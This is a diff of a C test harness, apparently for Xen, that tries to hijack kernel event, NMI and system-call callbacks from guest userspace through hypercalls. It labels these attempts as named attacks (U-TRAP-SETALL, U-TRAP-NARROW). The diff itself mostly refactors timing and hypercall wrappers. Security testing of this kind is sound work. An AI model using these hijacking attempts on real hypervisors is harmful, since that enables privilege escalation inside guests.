@@ -10,7 +10,6 @@
 #include <sys/mman.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
-#include <time.h>
 
 #include <xen/callback.h>
 #include <xen/hvm/hvm_op.h>
@@ -54,32 +53,13 @@ __asm__(".pushsection .text\n"
         "    jmp *entry_next(%rip)\n"
         ".popsection\n");
 
-static void register_callback(uint16_t type, uint64_t address)
-{
-    callback_register_t *callback = buffer(sizeof(*callback));
-
-    *callback = (callback_register_t){ .type = type,
-                                       .flags = CALLBACKF_mask_events,
-                                       .address = address };
-    hypercall2(__HYPERVISOR_callback_op, CALLBACKOP_register, callback);
-}
-
 /* A timer's event, if nothing else, comes within this time. */
-static bool marked_within(int64_t nanoseconds)
+static bool marked_within(unsigned int milliseconds)
 {
-    struct timespec start, now;
+    while ( milliseconds-- && !victim_has_mark() )
+        spin(1000 * 1000);
 
-    clock_gettime(CLOCK_MONOTONIC, &start);
-    do
-    {
-        if ( victim_has_mark() )
-            return true;
-        clock_gettime(CLOCK_MONOTONIC, &now);
-    } while ( (now.tv_sec - start.tv_sec) * 1000000000 + now.tv_nsec -
-                  start.tv_nsec <
-              nanoseconds );
-
-    return false;
+    return victim_has_mark();
 }
 
 /* Have @set put our entry in the place of the kernel's for events. */
@@ -100,7 +80,7 @@ static enum outcome take_event(void (*set)(void))
     once_undo = (callback_register_t){ .type = CALLBACKTYPE_event,
                                        .address = kernel };
     set();
-    ran = marked_within(100 * 1000 * 1000);
+    ran = marked_within(100);
     register_callback(CALLBACKTYPE_event, kernel);
 
     return effect_either(ran, "userspace code", "took an event as the kernel",
@@ -146,10 +126,9 @@ ATTACK_BY("U-TRAP-SETALL", "take the kernel's events through set_callbacks",
 
 static void register_nmi(uint64_t address)
 {
-    struct xennmi_callback *callback = buffer(sizeof(*callback));
+    struct xennmi_callback callback = { .handler_address = address };
 
-    callback->handler_address = address;
-    hypercall2(__HYPERVISOR_nmi_op, XENNMI_register_callback, callback);
+    hypercall2(__HYPERVISOR_nmi_op, XENNMI_register_callback, &callback);
 }
 
 static void register_nmi_as_callback(uint64_t address)
@@ -168,7 +147,7 @@ static enum outcome take_nmi(void (*set)(uint64_t address))
 
     prepare_entry();
     set((uintptr_t)trap_entry);
-    hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_send_nmi, 0, 0);
+    vcpu_op(VCPUOP_send_nmi, 0, 0);
     set(kernel);
 
     return effect_either(victim_has_mark(), "userspace code",
@@ -313,10 +292,9 @@ PV_ATTACK("U-TRAP-NARROW", "take 32-bit system calls through callback_op",
 
 static void set_upcall(uint8_t vector)
 {
-    struct xen_hvm_evtchn_upcall_vector *set = buffer(sizeof(*set));
+    struct xen_hvm_evtchn_upcall_vector set = { .vector = vector };
 
-    set->vector = vector;
-    hypercall2(__HYPERVISOR_hvm_op, HVMOP_set_evtchn_upcall_vector, set);
+    hvm_op(HVMOP_set_evtchn_upcall_vector, &set);
 }
 
 /*
